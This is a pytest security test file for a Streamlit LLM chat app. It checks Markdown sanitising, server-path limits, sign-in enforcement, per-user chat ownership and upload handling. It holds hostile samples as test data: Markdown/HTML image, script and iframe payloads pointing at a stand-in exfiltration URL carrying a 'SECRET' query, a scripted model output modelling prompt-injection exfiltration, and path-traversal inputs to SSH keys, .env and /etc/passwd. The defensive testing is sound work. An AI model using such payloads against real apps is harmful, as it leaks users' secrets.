"""The web app as a multi-user service: server paths, sign-in, chat ownership, safe Markdown, uploads.

Each test feeds the hostile input of issue 13 and checks the bounded outcome. The plain-Python
ones run the helpers (``toolkit.ui.access``, ``safe_markdown``, ``history``, ``uploads``) and the
``llama-toolkit ui`` command in process; the AppTest ones run the real app script with a scripted
model (no model is loaded). The browser half is in ``tests/ui/test_browser.py``.
"""

from __future__ import annotations

import json
import re
import sqlite3
import sys
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from langchain_core.messages import AIMessageChunk

from toolkit import cli
from toolkit.errors import AccessDeniedError
from toolkit.ui.access import context_limit, launch_problem, server_path
from toolkit.ui.history import LOCAL_OWNER, ConversationStore
from toolkit.ui.safe_markdown import safe_markdown
from toolkit.ui.uploads import DUPLICATE, save_uploads, uploads_folder

ROOT = Path(__file__).resolve().parents[2]
APP = ROOT / "streamlit_app.py"
ARTIFACTS = ROOT / "test-artifacts" / "security"
EXFIL = "http://127.0.0.1:9/?q=SECRET"

# --- Fault: model output rendered as Markdown makes the browser fetch ------------------------------

HOSTILE_MARKDOWN = [
    f"![]({EXFIL})",
    f'![logo]({EXFIL} "title")',
    f"see ![a][1] here\n\n[1]: {EXFIL}",
    f"![b][]\n\n[b]: <{EXFIL}>",
    "![c]\n\n[c]: " + EXFIL,
    f'<img src="{EXFIL}" alt="x">',
    f"<IMG SRC={EXFIL}>",
    f"<p><img src='{EXFIL}'/></p>",
    f"[![inner]({EXFIL})](http://127.0.0.1:9/link)",
    f"[click me]({EXFIL})",
    f"<{EXFIL}>",
    f"plain {EXFIL} text",
    f"<script>fetch('{EXFIL}')</script>",
    f'<iframe src="{EXFIL}"></iframe>',
    f"![partial]({EXFIL}",  # cut off mid-stream
]

_IMAGE_SYNTAX = re.compile(r"(?<!\\)!\[")  # an unescaped image opener
_RAW_TAG = re.compile(r"(?<!\\)<[a-zA-Z/!]")  # an unescaped HTML tag or autolink
_LINK_SYNTAX = re.compile(r"(?<!\\)\][(\[]")  # an unescaped ](url) or ][ref] (outside code spans)


def _outside_code(text: str) -> str:
    return re.sub(r"`[^`]*`", "", text)


@pytest.mark.parametrize("hostile", HOSTILE_MARKDOWN)
def test_model_markdown_renders_no_image_html_or_link(hostile: str) -> None:
    started = time.perf_counter()
    safe = safe_markdown(hostile)
    assert time.perf_counter() - started < 1.0
    prose = _outside_code(safe)
    assert not _IMAGE_SYNTAX.search(prose), safe
    assert not _RAW_TAG.search(prose), safe
    assert not _LINK_SYNTAX.search(prose), safe
    assert "http" not in prose, safe  # every target shows only inside a code span (never a link)
    if "127.0.0.1:9/?q=SECRET" in hostile and "partial" not in hostile and "<script" not in hostile:
        assert "`http://127.0.0.1:9/?q=SECRET`" in safe, safe  # the target stays visible as text


def test_safe_markdown_shows_images_and_links_as_text_and_keeps_the_rest() -> None:
    assert safe_markdown(f"![chart]({EXFIL})") == r"\[image: chart\] (`" + EXFIL + "`)"
    assert safe_markdown("[docs](https://example.org/a)") == "docs (`https://example.org/a`)"
    kept = "# Title\n\n**bold**, *it*, `![](code)`\n\n```\n![](fenced)\n```\n\n| a | b |\n|---|---|"
    assert safe_markdown(kept) == kept  # formatting and code are left alone


def test_safe_markdown_is_fast_on_adversarial_text() -> None:
    worst = 0.0
    for text in ("`" * 100_000, "![" * 50_000, "[a](" * 25_000, "<img " * 20_000, "```\n" * 25_000):
        started = time.perf_counter()
        safe_markdown(text)
        worst = max(worst, time.perf_counter() - started)
    assert worst < 1.0, worst


# --- Fault: any server path (a GGUF, a folder to ingest) and any context size ------------------------


def test_server_paths_are_off_without_the_setting(tmp_path: Path) -> None:
    started = time.perf_counter()
    with pytest.raises(AccessDeniedError, match="server paths are off") as info:
        server_path("~/.ssh/id_rsa", [], "folder")
    assert time.perf_counter() - started < 1.0
    assert "\n" not in str(info.value) and "LLAMA_TOOLKIT_UI_ALLOW_SERVER_PATHS" in str(info.value)


def test_a_path_outside_the_roots_is_refused_symlinks_followed(tmp_path: Path) -> None:
    root = tmp_path / "shared"
    (root / "docs").mkdir(parents=True)
    secret = tmp_path / "app" / ".env"
    secret.parent.mkdir()
    secret.write_text("API_KEY=hunter2")
    (root / "docs" / "innocent.txt").symlink_to(secret)  # looks inside, points outside
    roots = [root.resolve()]
    assert server_path(str(root / "docs"), roots) == (root / "docs").resolve()
    for hostile in (str(secret), str(root / "docs" / "innocent.txt"), str(root / ".." / "app" / ".env")):
        started = time.perf_counter()
        with pytest.raises(AccessDeniedError, match="outside the folders this server allows") as info:
            server_path(hostile, roots, "folder")
        assert time.perf_counter() - started < 1.0
        assert "\n" not in str(info.value)


def test_context_size_is_bounded_by_the_model_and_kv_budget() -> None:
    assert context_limit(8192, 131072) == 8192  # the trained context
    assert context_limit(131072, 16384) == 16384  # the KV budget
    assert context_limit(None, None) < 131072


# --- Fault: --host 0.0.0.0 with no login; --auth without a password -------------------------------


class _NoStart:
    def __init__(self, *args: Any, **kwargs: Any) -> None:
        raise AssertionError("streamlit was started")


def _run_ui(
    argv: list[str], monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> tuple[int, str, float]:
    import toolkit.cli.ui

    monkeypatch.setattr(toolkit.cli.ui.subprocess, "Popen", _NoStart)
    started = time.perf_counter()
    code = cli.main(["ui", *argv])
    elapsed = time.perf_counter() - started
    return code, capsys.readouterr().err, elapsed


def test_a_public_host_without_auth_refuses_to_start(
    monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.delenv("LLAMA_TOOLKIT_UI_PASSWORD", raising=False)
    code, err, elapsed = _run_ui(["--host", "0.0.0.0"], monkeypatch, capsys)
    assert code == 1 and elapsed < 1.0
    assert err.count("\n") == 1 and err.startswith("error: refusing to serve 0.0.0.0 without sign-in")
    assert "--auth" in err and "--insecure" in err
    assert launch_problem("::", auth=False, insecure=False, password=False, oidc=False)
    assert launch_problem("127.0.0.1", auth=False, insecure=False, password=False, oidc=False) is None
    assert launch_problem("0.0.0.0", auth=False, insecure=True, password=False, oidc=False) is None


def test_auth_without_a_password_refuses_to_start(
    monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    monkeypatch.delenv("LLAMA_TOOLKIT_UI_PASSWORD", raising=False)
    monkeypatch.chdir(tmp_path)  # no .streamlit/secrets.toml with an OIDC provider here
    monkeypatch.setenv("HOME", str(tmp_path))
    code, err, elapsed = _run_ui(["--auth", "--host", "0.0.0.0"], monkeypatch, capsys)
    assert code == 1 and elapsed < 1.0
    assert err.count("\n") == 1 and "set LLAMA_TOOLKIT_UI_PASSWORD" in err


def test_auth_with_a_password_passes_the_flag_to_the_app(monkeypatch: pytest.MonkeyPatch) -> None:
    from toolkit.cli.ui import check_launch, streamlit_command

    monkeypatch.setenv("LLAMA_TOOLKIT_UI_PASSWORD", "s3cret")
    args = cli.build_parser().parse_args(["ui", "--auth", "--host", "0.0.0.0"])
    check_launch(args)  # allowed
    assert streamlit_command(args)[-2:] == ["--", "--auth"]


# --- Fault: every browser session sees and deletes every saved chat --------------------------------


def test_a_users_chats_are_not_listed_or_deletable_by_another(tmp_path: Path) -> None:
    store = ConversationStore(tmp_path / "chats.sqlite3")
    alice = store.create("alice's plans", owner="user:alice")
    bob = store.create("bob's notes", owner="user:bob")
    assert [c.id for c in store.conversations(owner="user:alice")] == [alice]
    assert [c.id for c in store.conversations(owner="user:bob")] == [bob]
    assert store.get(alice, owner="user:bob") is None
    assert store.delete(alice, owner="user:bob") is False  # not bob's: nothing deleted
    assert store.get(alice, owner="user:alice") is not None


def test_without_sign_in_a_shared_host_scopes_chats_to_the_browser_session() -> None:
    from toolkit.ui.access import owner_of

    assert owner_of(user=None, session_id="tab1", shared_host=True) == "session:tab1"
    assert owner_of(user=None, session_id="tab1", shared_host=False) == LOCAL_OWNER
    assert owner_of(user="alice", session_id="tab1", shared_host=True) == "user:alice"


def test_migration_keeps_old_chats_owned_by_the_local_user(tmp_path: Path) -> None:
    path = tmp_path / "chats.sqlite3"
    with sqlite3.connect(path) as db:  # the schema from before owners
        db.executescript(
            "CREATE TABLE conversations (id TEXT PRIMARY KEY, title TEXT NOT NULL, system_prompt TEXT "
            "NOT NULL DEFAULT '', created REAL NOT NULL, updated REAL NOT NULL);"
            "CREATE TABLE messages (id INTEGER PRIMARY KEY AUTOINCREMENT, conversation_id TEXT NOT NULL "
            "REFERENCES conversations(id) ON DELETE CASCADE, role TEXT NOT NULL, content TEXT NOT NULL, "
            "meta TEXT NOT NULL DEFAULT '{}', created REAL NOT NULL);"
            "INSERT INTO conversations VALUES ('old1', 'Old chat', 'be brief', 1.0, 2.0);"
            "INSERT INTO messages (conversation_id, role, content, created) VALUES ('old1', 'user', 'hi', 1.0);"
            "INSERT INTO messages (conversation_id, role, content, created) VALUES ('old1', 'assistant', 'hello', 1.5);"
        )
    db.close()
    store = ConversationStore(path)
    [old] = store.conversations(owner=LOCAL_OWNER)
    assert (old.id, old.title, old.system_prompt, old.owner) == ("old1", "Old chat", "be brief", LOCAL_OWNER)
    assert [(t.role, t.content) for t in store.turns("old1")] == [("user", "hi"), ("assistant", "hello")]
    assert store.conversations(owner="user:alice") == []
    ConversationStore(path)  # opening again is a no-op
    assert len(store.conversations()) == 1


# --- Fault: uploads with the same name overwrite each other -----------------------------------------


class _Upload:
    def __init__(self, name: str, data: bytes) -> None:
        self.name, self._data = name, data

    @property
    def size(self) -> int:
        return len(self._data)

    def getvalue(self) -> bytes:
        return self._data


def test_duplicate_upload_names_are_reported_not_overwritten(tmp_path: Path) -> None:
    folder = uploads_folder(tmp_path, "docs")
    batch = [
        _Upload("report.md", b"# First"),
        _Upload("report.md", b"# Second"),
        _Upload("a\\report.md", b"#A"),
    ]
    saved = save_uploads(batch, folder, supported=[".md"])
    assert (folder / "report.md").read_bytes() == b"# First"
    assert saved.rejected == [("report.md", DUPLICATE)]
    assert saved.paths == [str(folder / "report.md"), str(folder / "a" / "report.md")]


# --- The same refusals in the app (AppTest, a scripted model) --------------------------------------


class _Scripted:
    """A chat model for the page: streams ``parts``."""

    def __init__(self, parts: list[str]) -> None:
        self.parts = parts

    def stream(self, messages: Any, **kwargs: Any) -> Iterator[AIMessageChunk]:
        for part in self.parts:
            yield AIMessageChunk(content=part)


@pytest.fixture
def app_env(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    data = tmp_path / "data"
    monkeypatch.setenv("LLAMA_TOOLKIT_DATA_DIR", str(data))
    for name in (
        "LLAMA_TOOLKIT_BACKEND",
        "LLAMA_TOOLKIT_MODEL",
        "LLAMA_TOOLKIT_COLLECTION",
        "LLAMA_TOOLKIT_UI_ALLOW_SERVER_PATHS",
        "LLAMA_TOOLKIT_UI_PASSWORD",
    ):
        monkeypatch.delenv(name, raising=False)
    monkeypatch.setattr(sys, "argv", ["streamlit_app.py"])
    return data


def _app(page: str = "chat") -> Any:
    from streamlit.testing.v1 import AppTest

    at = AppTest.from_file(str(APP), default_timeout=120).run()
    assert not at.exception, [e.value for e in at.exception]
    if page != "chat":
        at.switch_page(f"toolkit/ui/screens/{page}.py").run()
        assert not at.exception, [e.value for e in at.exception]
    return at


def _keys(widgets: Any) -> set[str]:
    return {w.key for w in widgets}


def test_app_hides_the_server_path_boxes_without_the_setting(app_env: Path) -> None:
    at = _app("documents")
    assert "docs_path" not in _keys(at.text_input)
    assert "ui_model" not in _keys(at.sidebar.text_input)  # no GGUF path box
    assert at.sidebar.number_input(key="ui_n_ctx").max < 131072  # bounded by the model


def test_app_refuses_a_folder_outside_the_allowed_roots(
    app_env: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    allowed = tmp_path / "allowed"
    allowed.mkdir()
    secret = tmp_path / "app"
    secret.mkdir()
    (secret / ".env").write_text("API_KEY=hunter2")
    monkeypatch.setenv("LLAMA_TOOLKIT_UI_ALLOW_SERVER_PATHS", str(allowed))
    at = _app("documents")
    at.text_input(key="docs_path").set_value(str(secret / ".env"))
    started = time.perf_counter()
    at.button(key="docs_ingest").click().run()
    elapsed = time.perf_counter() - started
    [error] = [e.value for e in at.error]
    assert "outside the folders this server allows" in error and "\n" not in error
    from retrievers import list_indexes

    assert "documents" not in list_indexes(data_dir=app_env)  # nothing was opened or ingested
    _write_artifact(
        "server_path_refusal", {"input": str(secret / ".env"), "message": error, "seconds": elapsed}
    )


def test_app_refuses_a_gguf_outside_the_allowed_roots(
    app_env: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    allowed = tmp_path / "models"
    allowed.mkdir()
    monkeypatch.setenv("LLAMA_TOOLKIT_UI_ALLOW_SERVER_PATHS", str(allowed))
    at = _app()
    at.sidebar.radio(key="ui_backend").set_value("llamacpp").run()
    at.sidebar.text_input(key="ui_model").set_value("/etc/passwd").run()
    [error] = [e.value for e in at.sidebar.error]
    assert error.startswith("Not loaded: the GGUF file /etc/passwd is outside the folders"), error
    assert "SmolLM2" in at.sidebar.caption[-1].value  # the configured model stays in use


def _sign_in(at: Any, name: str, password: str) -> Any:
    at.text_input(key="ui_signin_name").set_value(name)
    at.text_input(key="ui_signin_password").set_value(password)
    at.button[0].click().run()
    assert not at.exception, [e.value for e in at.exception]
    return at


def test_signed_in_users_see_only_their_own_chats(app_env: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    from toolkit.ui import resources

    monkeypatch.setattr(sys, "argv", ["streamlit_app.py", "--auth"])
    monkeypatch.setenv("LLAMA_TOOLKIT_UI_PASSWORD", "s3cret")
    monkeypatch.setattr(resources, "get_llm", lambda temperature=None: _Scripted(["Noted."]))
    at = _app()
    assert not at.chat_input  # nothing but the sign-in form before signing in
    started = time.perf_counter()
    _sign_in(at, "mallory", "wrong")
    assert "Wrong password" in at.error[0].value and not at.chat_input
    assert time.perf_counter() - started < 3.0  # the delay on a wrong password is short
    _sign_in(at, "alice", "s3cret")
    at.chat_input[0].set_value("alice's secret plan").run().run()  # listed from the next run on
    assert not at.exception
    options = at.sidebar.selectbox(key="chat_pick").options
    assert "alice's secret plan" in options

    bob = _sign_in(_app(), "bob", "s3cret")
    assert bob.sidebar.selectbox(key="chat_pick").options == ["(new chat)"]
    assert [c.owner for c in ConversationStore(app_env / "chats.sqlite3").conversations()] == ["user:alice"]


def test_app_renders_an_injected_image_as_text(app_env: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    from toolkit.ui import resources

    at = _app()
    parts = ["Here is ", "the chart: ![chart](", "http://127.0.0.1:9/?q=SECRET)", " done."]
    monkeypatch.setattr(resources, "get_llm", lambda temperature=None: _Scripted(parts))
    at.chat_input[0].set_value("Summarize the document.").run()
    assert not at.exception
    answer = at.chat_message[1].markdown[0].value
    assert "![" not in answer and "`http://127.0.0.1:9/?q=SECRET`" in answer, answer
    at.chat_input[0].set_value("again").run()  # the saved turn is drawn the same way
    assert all("![" not in m.value for msg in at.chat_message for m in msg.markdown)


def _write_artifact(name: str, data: dict[str, Any]) -> None:
    ARTIFACTS.mkdir(parents=True, exist_ok=True)
    (ARTIFACTS / f"webapp_{name}.json").write_text(json.dumps(data, indent=2))
    print(f"\n{name}: {data}")
